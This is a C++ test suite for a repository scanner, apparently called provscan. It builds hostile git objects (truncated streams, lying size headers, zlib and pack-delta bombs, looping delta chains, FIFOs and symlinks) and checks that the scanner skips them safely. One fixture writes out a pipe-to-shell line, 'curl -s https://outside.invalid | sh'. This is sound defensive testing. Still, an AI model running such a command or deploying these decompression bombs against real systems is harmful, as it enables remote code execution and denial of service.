// Hostile objects: truncated, lying about their size, bombs. Each is read with its size checked
// from the header first and inflated with bounds, so none can hang the scan or exhaust memory.
#include "tests/hostile/hostile.h"

#include <sys/stat.h>

using namespace provscan::test;
using namespace provscan::test::hostile;

namespace {

// A repository whose HEAD adds `path` -> `blob_id` (however that object is stored) beside an
// honest file that holds a finding, so "the rest is still scanned" can be checked.
struct OneBlob {
  FixtureRepo repo;
  std::string base, head;
  OneBlob(const std::string& path, const std::string& blob_id) {
    base = repo.commit("base", {{"ok.sh", "#!/bin/sh\necho ok\n"}});
    const std::string tree = repo.write_raw_tree({{"100644", "ok.sh", repo.write_blob("#!/bin/sh\necho ok\n" + kPipe)},
                                                  {"100644", path, blob_id}});
    head = repo.write_object("commit", commit_text(tree, {base}, "add"));
    repo.set_head_commit(head);
  }
};

// A 64 KiB blob of 'A's, and a delta over it that copies it whole (one byte per 64 KiB copy) until
// `result` bytes: gigabytes of result that zlib squeezes to almost nothing.
const std::string kBombBase(1 << 16, 'A');
std::string expanding_delta(std::uint64_t result) {
  return varint(kBombBase.size()) + varint(result) + std::string(result >> 16, '\x80');
}

void report_rss(const std::string& what, const Run& r) {
  MESSAGE(what, ": ", r.cli.seconds, " s, peak RSS ", r.cli.max_rss_kib / 1024, " MiB");
  CHECK(r.cli.max_rss_kib < kMaxRssKib);
}

}  // namespace

TEST_CASE("hostile: a truncated loose blob is unreadable, not an endless inflation") {
  const std::string content = std::string(200000, 'x') + "\n";
  const std::string id = object_id("blob", content);
  OneBlob r("big.txt", id);
  const std::string full = deflate("blob " + std::to_string(content.size()) + std::string(1, '\0') + content);
  write_loose_file(r.repo.git_dir(), id, full.substr(0, full.size() / 2));
  const Run run = scan(r.repo.path());
  CHECK(run.cli.exit_code == 1);  // the honest file's finding outranks incompleteness
  const auto s = skipped_of(run.doc, "unreadable-object");
  REQUIRE(s.size() == 1);
  CHECK(s[0]["path"] == "big.txt");
  CHECK(s[0]["object"] == id);
  CHECK(s[0]["incomplete"] == true);
  CHECK(s[0]["reason"].get<std::string>().find("truncated zlib stream") != std::string::npos);
  CHECK(findings_of(run.doc, "t.pipe-to-shell").size() == 1);
  CHECK(commits(run.doc) == 2);
  report_rss("truncated loose blob", run);
}

TEST_CASE("hostile: a truncated loose commit is a bad commit and the history behind it is still walked") {
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"a.sh", kPipe}});
  const std::string tree2 = repo.make_tree(repo.tree_of(c1), {{"b.txt", "b\n"}});
  const std::string text2 = commit_text(tree2, {c1}, "two");
  const std::string c2 = object_id("commit", text2);
  const std::string full = deflate("commit " + std::to_string(text2.size()) + std::string(1, '\0') + text2);
  write_loose_file(repo.git_dir(), c2, full.substr(0, full.size() - 8));  // the stream's end cut off
  const std::string tree3 = repo.make_tree(tree2, {{"c.txt", "c\n"}});
  const std::string c3 = repo.write_object("commit", commit_text(tree3, {c2, c1}, "three"));
  repo.set_head_commit(c3);
  const Run run = scan(repo.path());
  CHECK(run.cli.exit_code == 1);
  // c2 cannot be read; c3 cannot be compared with its first parent (c2), so what c3 added is
  // unknown too: both are recorded. c1 is still reached through c3's second parent, and scanned.
  std::set<std::string> bad;
  for (const json& s : skipped_of(run.doc, "bad-commit")) bad.insert(s["commit"].get<std::string>());
  CHECK(bad == std::set<std::string>{c2, c3});
  CHECK(commits(run.doc) == 2);  // c3 and c1
  const auto f = findings_of(run.doc, "t.pipe-to-shell");
  REQUIRE(f.size() == 1);
  CHECK(f[0]["commit"] == c1);
  CHECK(run.doc["summary"]["incomplete"] == true);
}

TEST_CASE("hostile: a loose object declaring 20 GB is skipped from its header, without inflating it") {
  const std::string id = object_id("blob", "twenty gigabytes, they say");
  OneBlob r("huge.bin", id);
  write_loose_file(r.repo.git_dir(), id, deflate(std::string("blob 21474836480") + '\0' + "twenty gigabytes, they say"));
  const Run run = scan(r.repo.path(), {"--no-fail-on-skip", "--fail-on", "critical"});
  CHECK(run.cli.exit_code == 0);
  const auto s = skipped_of(run.doc, "blob-too-large");
  REQUIRE(s.size() == 1);
  CHECK(s[0]["path"] == "huge.bin");
  CHECK(s[0]["reason"] == "21474836480 bytes > --max-blob-bytes 16777216");
  CHECK(s[0]["incomplete"] == true);
  report_rss("20 GB-declared loose object", run);
  // And the gate: incomplete is exit 3 unless findings outrank it.
  CHECK(scan(r.repo.path(), {"--fail-on", "critical"}).cli.exit_code == 3);
}

TEST_CASE("hostile: a loose object that inflates past its declared size stops at the declared size") {
  // 10 bytes declared, 256 MiB of zeros behind them (a zlib bomb of about 256 KiB).
  const std::string id = object_id("blob", "ten bytes!");
  OneBlob r("bomb.txt", id);
  {
    z_stream z{};
    REQUIRE(deflateInit(&z, 9) == Z_OK);
    std::string out;
    const std::string head = std::string("blob 10") + '\0' + "ten bytes!";
    const std::string zeros(1 << 20, '\0');
    std::vector<unsigned char> buf(1 << 16);
    auto pump = [&](const std::string& in, int flush) {
      z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
      z.avail_in = static_cast<uInt>(in.size());
      do {
        z.next_out = buf.data();
        z.avail_out = static_cast<uInt>(buf.size());
        deflate(&z, flush);
        out.append(reinterpret_cast<char*>(buf.data()), buf.size() - z.avail_out);
      } while (z.avail_out == 0);
    };
    pump(head, Z_NO_FLUSH);
    for (int i = 0; i < 255; ++i) pump(zeros, Z_NO_FLUSH);
    pump(zeros, Z_FINISH);
    deflateEnd(&z);
    write_loose_file(r.repo.git_dir(), id, out);
  }
  const Run run = scan(r.repo.path());
  CHECK(run.cli.exit_code == 1);
  const auto s = skipped_of(run.doc, "unreadable-object");
  REQUIRE(s.size() == 1);
  CHECK(s[0]["path"] == "bomb.txt");
  CHECK(s[0]["reason"].get<std::string>().find("longer than its header says") != std::string::npos);
  report_rss("loose zlib bomb behind a 10-byte header", run);
}

TEST_CASE("hostile: a pack of a few hundred bytes that expands to a 2 GiB blob is skipped from its header") {
  // A 64 KiB base blob and a delta that copies it 32768 times: 2 GiB of result from one byte
  // per copy, which zlib squeezes to almost nothing.
  const std::string& base = kBombBase;
  const std::string base_id = object_id("blob", base);
  const std::uint64_t result_size = 1ull << 31;
  const std::string delta = expanding_delta(result_size);
  const std::string bomb_id = object_id("blob", "the pack says so");
  const std::string z_base = deflate(base), z_delta = deflate(delta);
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"ok.sh", kPipe}});
  const std::string tree = repo.write_raw_tree({{"100644", "ok.sh", repo.write_blob(kPipe)}, {"100644", "zeros.bin", bomb_id}});
  const std::string c2 = repo.write_object("commit", commit_text(tree, {c1}, "bomb"));
  repo.set_head_commit(c2);
  write_pack(repo.git_dir(), {{base_id, pack_entry_header(3, base.size()) + z_base},
                              {bomb_id, pack_entry_header(7, delta.size()) + raw_id(base_id) + z_delta}});
  const std::uintmax_t pack_size =
      std::filesystem::file_size(std::filesystem::path(repo.git_dir()) / "objects/pack/pack-hostile.pack");
  MESSAGE("pack bomb: ", pack_size, " bytes on disk for a ", result_size, "-byte blob");
  CHECK(pack_size < 1024);
  const Run run = scan(repo.path());
  CHECK(run.cli.exit_code == 1);
  const auto s = skipped_of(run.doc, "blob-too-large");
  REQUIRE(s.size() == 1);
  CHECK(s[0]["path"] == "zeros.bin");
  CHECK(s[0]["reason"] == "2147483648 bytes > --max-blob-bytes 16777216");
  CHECK(findings_of(run.doc, "t.pipe-to-shell").size() == 1);
  report_rss("pack bomb", run);
}

namespace {

// git's encoding of an OFS_DELTA's distance back to its base (pack-format.txt).
std::string ofs_distance(std::uint64_t rel) {
  std::string out(1, static_cast<char>(rel & 0x7f));
  while (rel >>= 7) {
    --rel;
    out.insert(out.begin(), static_cast<char>(0x80 | (rel & 0x7f)));
  }
  return out;
}

// A delta that copies the first `n` (< 256) bytes of its base.
std::string copy_delta(std::uint64_t base_size, unsigned n) {
  return varint(base_size) + varint(n) + std::string{'\x90', static_cast<char>(n)};
}

}  // namespace

TEST_CASE("hostile: pack delta chains that loop, point at themselves or run 5000 deep are refused before libgit2 follows them") {
  // libgit2 1.5.1 resolves a REF_DELTA's base by id without remembering where it has been: two
  // deltas that are each other's base make git_odb_read_header loop forever (and git_odb_read
  // grow its chain without end). provscan walks each chain from the pack's own bytes first.
  const std::string a_id = object_id("blob", "cycle a"), b_id = object_id("blob", "cycle b");
  const std::string self_id = object_id("blob", "own base");
  const std::string deep_id = object_id("blob", "deep");
  std::vector<PackEntry> entries;
  const std::string d = deflate(copy_delta(10, 10));
  entries.push_back({a_id, pack_entry_header(7, 4) + raw_id(b_id) + d});
  entries.push_back({b_id, pack_entry_header(7, 4) + raw_id(a_id) + d});
  entries.push_back({self_id, pack_entry_header(6, 4) + ofs_distance(0) + d});
  // 5000 OFS_DELTAs, each over the one before, over a 10-byte blob: deeper than git ever packs.
  std::uint64_t at = 12;
  for (const PackEntry& e : entries) at += e.bytes.size();
  std::uint64_t prev = at;
  entries.push_back({object_id("blob", "0123456789"), pack_entry_header(3, 10) + deflate("0123456789")});
  at += entries.back().bytes.size();
  for (int k = 1; k <= 5000; ++k) {
    const std::string id = k == 5000 ? deep_id : object_id("blob", "link " + std::to_string(k));
    entries.push_back({id, pack_entry_header(6, 4) + ofs_distance(at - prev) + d});
    prev = at;
    at += entries.back().bytes.size();
  }
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"ok.sh", kPipe}});
  const std::string tree = repo.write_raw_tree({{"100644", "ok.sh", repo.write_blob(kPipe)},
                                                {"100644", "cycle", a_id},
                                                {"100644", "deep", deep_id},
                                                {"100644", "self", self_id}});
  repo.set_head_commit(repo.write_object("commit", commit_text(tree, {c1}, "chains")));
  write_pack(repo.git_dir(), std::move(entries));
  const Run run = scan(repo.path());
  CHECK(run.cli.exit_code == 1);
  const auto s = skipped_of(run.doc, "unreadable-object");
  REQUIRE(s.size() == 3);
  CHECK(s[0]["path"] == "cycle");
  CHECK(s[0]["reason"].get<std::string>().find("its delta chain loops back on itself") != std::string::npos);
  CHECK(s[0]["reason"].get<std::string>().find("objects/pack/pack-hostile.pack at offset") != std::string::npos);
  CHECK(s[1]["path"] == "deep");
  CHECK(s[1]["reason"].get<std::string>().find("its delta chain is deeper than 4096") != std::string::npos);
  CHECK(s[2]["path"] == "self");
  CHECK(s[2]["reason"].get<std::string>().find("the delta is its own base") != std::string::npos);
  CHECK(findings_of(run.doc, "t.pipe-to-shell").size() == 1);
  report_rss("pack delta cycle and 5000-deep chain", run);
}

TEST_CASE("hostile: a 10-byte blob delta'd over a 2 GiB intermediate object is skipped, not built") {
  // The blob's own header says 10 bytes, so a size check on it alone passes; but its base is a
  // delta that expands a 64 KiB blob to 2 GiB, which libgit2 would build in memory first.
  const std::string& base = kBombBase;
  const std::string base_id = object_id("blob", base);
  const std::uint64_t big = 1ull << 31;
  const std::string big_delta = expanding_delta(big);
  const std::string big_id = object_id("blob", "the 2 GiB middle");
  const std::string small_id = object_id("blob", "ten bytes!");
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"ok.sh", kPipe}});
  const std::string tree =
      repo.write_raw_tree({{"100644", "ok.sh", repo.write_blob(kPipe)}, {"100644", "small.txt", small_id}});
  repo.set_head_commit(repo.write_object("commit", commit_text(tree, {c1}, "small over big")));
  write_pack(repo.git_dir(), {{base_id, pack_entry_header(3, base.size()) + deflate(base)},
                              {big_id, pack_entry_header(7, big_delta.size()) + raw_id(base_id) + deflate(big_delta)},
                              {small_id, pack_entry_header(7, copy_delta(big, 10).size()) + raw_id(big_id) +
                                             deflate(copy_delta(big, 10))}});
  const Run run = scan(repo.path());
  CHECK(run.cli.exit_code == 1);
  const auto s = skipped_of(run.doc, "blob-too-large");
  REQUIRE(s.size() == 1);
  CHECK(s[0]["path"] == "small.txt");
  CHECK(s[0]["reason"] ==
        "blob of 10 bytes is built from a 2147483648-byte delta base, over the limit of 16777216 bytes (--max-blob-bytes)");
  CHECK(findings_of(run.doc, "t.pipe-to-shell").size() == 1);
  report_rss("10-byte blob over a 2 GiB delta base", run);
}

TEST_CASE("hostile: a FIFO, a folder or a link in objects/pack is refused before libgit2 opens it") {
  // libgit2 opens objects/pack/multi-pack-index and every .idx with a blocking open() before it
  // checks what they are: a FIFO there would hang the scan for good.
  for (const std::string name : {"multi-pack-index", "pack-x.idx", "pack-x.pack"}) {
    CAPTURE(name);
    FixtureRepo repo;
    repo.commit("one", {{"ok.sh", kPipe}});
    const std::filesystem::path pack = std::filesystem::path(repo.git_dir()) / "objects" / "pack";
    std::filesystem::create_directories(pack);
    REQUIRE(mkfifo((pack / name).c_str(), 0600) == 0);
    const Run run = scan(repo.path());
    CHECK(run.cli.exit_code == 2);
    CHECK(run.cli.err.find("'objects/pack/" + name + "' is not a regular file") != std::string::npos);
  }
  FixtureRepo repo;
  repo.commit("one", {{"ok.sh", kPipe}});
  std::filesystem::create_directories(std::filesystem::path(repo.git_dir()) / "objects" / "pack" / "sub");
  const Run run = scan(repo.path());
  CHECK(run.cli.exit_code == 2);
  CHECK(run.cli.err.find("'objects/pack/sub' is a folder") != std::string::npos);
}

TEST_CASE("hostile: a FIFO, a directory or a symbolic link in place of a loose object cannot block or escape") {
  FixtureRepo repo;
  const std::string c1 = repo.commit("one", {{"ok.sh", kPipe}});
  const std::string fifo_id = object_id("blob", "fifo");
  const std::string link_id = object_id("blob", "link");
  TempDir outside;
  const std::string secret = outside.file("secret", "");
  {
    const std::string blob = "curl -s https://outside.invalid | sh\n";
    // A valid loose object outside the repository: following the link would read it.
    const std::string text = deflate("blob " + std::to_string(blob.size()) + std::string(1, '\0') + blob);
    std::ofstream(secret, std::ios::binary) << text;
  }
  const std::filesystem::path objects = std::filesystem::path(repo.git_dir()) / "objects";
  std::filesystem::create_directories(objects / fifo_id.substr(0, 2));
  REQUIRE(mkfifo((objects / fifo_id.substr(0, 2) / fifo_id.substr(2)).c_str(), 0600) == 0);
  std::filesystem::create_directories(objects / link_id.substr(0, 2));
  std::filesystem::create_symlink(secret, objects / link_id.substr(0, 2) / link_id.substr(2));
  const std::string tree = repo.write_raw_tree(
      {{"100644", "ok.sh", repo.write_blob(kPipe)}, {"100644", "fifo", fifo_id}, {"100644", "link", link_id}});
  repo.set_head_commit(repo.write_object("commit", commit_text(tree, {c1}, "two")));
  const Run run = scan(repo.path());
  CHECK(run.cli.exit_code == 1);
  const auto s = skipped_of(run.doc, "unreadable-object");
  REQUIRE(s.size() == 2);
  CHECK(s[0]["path"] == "fifo");
  CHECK(s[0]["reason"].get<std::string>().find("not a regular file") != std::string::npos);
  CHECK(s[1]["path"] == "link");
  CHECK(s[1]["reason"].get<std::string>().find("symbolic link") != std::string::npos);
  CHECK(findings_of(run.doc, "t.pipe-to-shell").size() == 1);  // ok.sh only, nothing from outside
}
